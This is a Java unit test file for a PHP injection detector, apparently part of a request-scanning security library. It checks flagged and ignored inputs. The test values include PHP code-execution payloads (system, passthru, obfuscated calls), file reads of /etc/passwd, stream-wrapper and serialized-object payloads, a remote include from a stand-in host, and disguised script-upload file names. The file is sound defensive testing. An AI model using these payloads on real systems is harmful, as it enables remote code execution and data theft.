package dev.bulwark.core.internal.code.php;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.Level;
import dev.bulwark.core.internal.rules.Scans;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

class PhpInjectionDetectorTest {

    private final PhpInjectionDetector detector = new PhpInjectionDetector();

    @ParameterizedTest
    @ValueSource(strings = {"<?php system($_GET['c']); ?>", "<?= `ls -la` ?>", "<? passthru('id'); ?>",
        "<?PhP echo file_get_contents('/etc/hosts');", "&lt;?php phpinfo(); ?&gt;"})
    void detectsOpenTagFollowedByCode(String value) {
        assertThat(Scans.value(detector, value, Level.BASIC)).contains("PHP-CODE-TAG");
    }

    @ParameterizedTest
    @ValueSource(strings = {"';system('id');$a='", "\"];system('id');//", "x');passthru('id');//"})
    void detectsCallAfterQuoteThatClosesTheInjectedString(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-FUNCTION-CALL");
    }

    @ParameterizedTest
    @ValueSource(strings = {"it's (maybe) fine", "O'Brien (2024) said \"print(x)\"", "'hello' (world)",
        "\"quoted\" list(1,2)", "'print' the doc (page 2)"})
    void ignoresQuotedProseWithParentheses(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"test<?", "name=<?", "a\n<?"})
    void detectsOpenTagEndingValue(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-DANGLING-TAG");
    }

    @ParameterizedTest
    @ValueSource(strings = {"shell_exec", "'proc_open'", "Shell_exec=(bla)", "ZlIb_DeCoDe=(bla)", " base64_decode ",
        "call_user_func_array", "str_rot13;"})
    void detectsHighRiskFunctionNameGivenAsValue(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-CALLABLE-NAME");
    }

    @ParameterizedTest
    @ValueSource(strings = {"base64_decode example", "php shell_exec tutorial", "file_get_contents.md", "system",
        "passthru", "popen", "array_map, array_filter and friends", "shell_execute", "my_shell_exec"})
    void ignoresHighRiskFunctionNameInTextOrAsWord(String value) {
        assertThat(Scans.value(detector, value)).doesNotContain("PHP-CALLABLE-NAME");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<?php", "x<?=1", "[php]echo 1[/php]", "{php}x{/php}", "<?xml :1"})
    void detectsOpenTagWithoutRecognisableCode(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-OPEN-TAG");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>", "<?xml-stylesheet href=\"a.xsl\"?>",
        "<?xml:namespace prefix = o ns = \"urn:schemas-microsoft-com:office:office\" />", "<? is that right?"})
    void ignoresXmlProcessingInstructions(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"php://filter/convert.base64-encode/resource=index.php", "php://input", "expect://id",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw=="})
    void detectsExecutingStreamWrapper(String value) {
        assertThat(Scans.value(detector, value, Level.BASIC)).contains("PHP-EXECUTING-WRAPPER");
    }

    @ParameterizedTest
    @ValueSource(strings = {"phar:///tmp/upload.jpg/x", "compress.zlib://http://h.example/a.gz", "zip://a.zip#b.php",
        "glob:///var/www/*", "ssh2.exec://u:p@h.example:22/id"})
    void detectsOtherStreamWrapper(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-STREAM-WRAPPER");
    }

    @ParameterizedTest
    @ValueSource(strings = {"$_GET['x']", "echo $_SERVER[\"HTTP_HOST\"];", "$GLOBALS", "$_COOKIE"})
    void detectsSuperglobal(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-SUPERGLOBAL");
    }

    @ParameterizedTest
    @ValueSource(strings = {"system('id')", "exec(\"whoami\");", "passthru ('ls')", "shell_exec('uname -a')",
        "base64_decode('aWQ=')", "file_put_contents('a.php', $x)", "assert($_POST['x'])",
        "system /*note*/ (\"id\")", "exec //x\n('id')", "exec #x\n('id')", "@eval($c)", "x; system('id')",
        "FOOgzinflate()", "array_diff (", "pg_cancel_query($c)", "ldap_bind($l)", "sleep(10)",
        "preg_replace('/a/e', $_GET['x'], 'a')", "exec (id)", "include('http://h.example/s.txt')",
        "include '/etc/passwd';", "require_once $_GET['p'];x", "define('A', 'sys'.'tem');"})
    void detectsFunctionCall(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-FUNCTION-CALL");
    }

    @ParameterizedTest
    @ValueSource(strings = {"System (optional)", "File (optional)", "Time (UTC)", "list (2)", "the file (attached)",
        "Operating system (OS) setup", "print (color) version", "a range (km) of 5", "see date(s) below",
        "Click \"copy\" (top right)", "Math.floor(x)", "[file](https://example.com/f)", "=MAX(A1:B2)",
        "document.write(x)", "function date(x) {}", "In PHP you can call strlen() to get the length"})
    void ignoresEnglishWordsFollowedByParentheses(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"See chmod(2) for the modes.", "unlink(2)", "as printf(3p) describes"})
    void ignoresManualPageReferences(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @Test
    void detectsCommandFunctionWithNumberArgument() {
        assertThat(Scans.value(detector, "system(1)")).contains("PHP-FUNCTION-CALL");
    }

    @ParameterizedTest
    @ValueSource(strings = {"count(*)", "max(price)", "min(10)", "round(2.5)", "date(created_at)"})
    void ignoresFormulasOfQueryLanguages(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"$f('id')", "$$g(1)", "${'fn'}(2)", "$a['k'](3)", "$o->$m()", "Foo::$m()",
        "($f)('id')", "$fn /*x*/ (4)", "@$_[0]($x)", "$q\n(5)"})
    void detectsVariableFunctionCall(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-VARIABLE-FUNCTION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Costs $5 (approx)", "$USD (approx) rate", "$(\"#menu\").hide()", "pay $x (later)"})
    void ignoresDollarAmountsAndJquery(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"system\"('id')", "('sys'.'tem')('id')", "(sy.(st).em)(id)", "[system][0]('id')",
        "(string) \"sys\" . \"tem\" ('id')", "\"\\x73ystem\"(ls)", "[ system ] [ 0 ] ( ls )"})
    void detectsCallOfFoldedName(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-DYNAMIC-CALL");
    }

    @ParameterizedTest
    @ValueSource(strings = {"${'a'}", "$ {x}", "${$b}"})
    void detectsVariableVariable(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-VARIABLE-VARIABLE");
    }

    @Test
    void detectsSerializedObjectAsValue() {
        assertThat(Scans.value(detector, "O:8:\"Settings\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}", Level.BASIC))
                .contains("PHP-SERIALIZED-OBJECT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"O:+8:\"stdClass\":0:{}", "O:8:\"stdClass\":+1:{s:1:\"a\";s:1:\"b\";}",
        "C:+11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}"})
    void detectsSerializedObjectWithSignedLength(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-SERIALIZED-OBJECT");
    }

    @Test
    void detectsSerializedObjectInsideArray() {
        assertThat(Scans.value(detector, "a:1:{i:0;O:5:\"Guzzl\":0:{}}")).contains("PHP-SERIALIZED-EMBEDDED");
    }

    @Test
    void reportsSerializedArrayOnlyAtStrictLevel() {
        assertThat(Scans.value(detector, "a:2:{i:0;s:1:\"x\";i:1;s:1:\"y\";}")).isEmpty();
        assertThat(Scans.value(detector, "a:2:{i:0;s:1:\"x\";i:1;s:1:\"y\";}", Level.STRICT))
                .contains("PHP-SERIALIZED-ARRAY");
    }

    @ParameterizedTest
    @ValueSource(strings = {"allow_url_include=On", "auto_prepend_file = php://input", "opcache.jit=1255",
        "a=1\ndisable_functions=", "memory_limit=-1"})
    void detectsIniDirective(String value) {
        assertThat(Scans.value(detector, value)).contains("PHP-INI-DIRECTIVE");
    }

    @Test
    void reportsWordDirectiveOnlyAtStrictLevel() {
        assertThat(Scans.value(detector, "engine=Off")).isEmpty();
        assertThat(Scans.value(detector, "engine=Off", Level.STRICT)).contains("PHP-INI-WORD-DIRECTIVE");
    }

    @ParameterizedTest
    @ValueSource(strings = {"precision=2&format=json", "sort=name&dir=asc", "user.name=jane"})
    void ignoresQueryStringInsideValue(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"shell.php", "x.PHP5", "a.phtml", "b.phar", "c.php.", "d. php", "e.php.jpg", "f.php7.gif",
        "dir/g.pht"})
    void detectsScriptUpload(String fileName) {
        assertThat(Scans.fileName(detector, fileName)).contains("PHP-SCRIPT-UPLOAD");
    }

    @ParameterizedTest
    @ValueSource(strings = {"photo.jpg", "notes.txt", "php.ini.sample", "archive.tar.gz"})
    void ignoresOrdinaryUpload(String fileName) {
        assertThat(Scans.fileName(detector, fileName)).isEmpty();
    }

    @Test
    void detectsSessionFileUpload() {
        assertThat(Scans.header(detector, "X_Filename", "/tmp/sess_4f3c2b1a0d9e8f7a6b5c4d3e"))
                .contains("PHP-SESSION-FILE-UPLOAD");
    }

    @ParameterizedTest
    @FieldSource("dev.bulwark.core.internal.rules.Scans#ORDINARY_VALUES")
    void ignoresOrdinaryValue(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"((((", "$a(", "<?<?", "[[[[", "\"\".\"\".", "/*/*", "O:1:\"", "${${", ")()(", "a.(b.",
        "<?php/*", "<? a'", "include '", "$ {", "exec(/*", "[php]"})
    void finishesQuicklyOnOneMebibyteOfRepetition(String unit) {
        String value = Scans.mebibyteOf(unit);
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> Scans.value(detector, value, Level.STRICT));
    }

    @Test
    void listsEveryRuleItReports() {
        assertThat(detector.rules()).extracting(r -> r.key()).containsOnly("PHP");
        assertThat(detector.rules()).extracting(r -> r.id()).doesNotHaveDuplicates();
    }
}
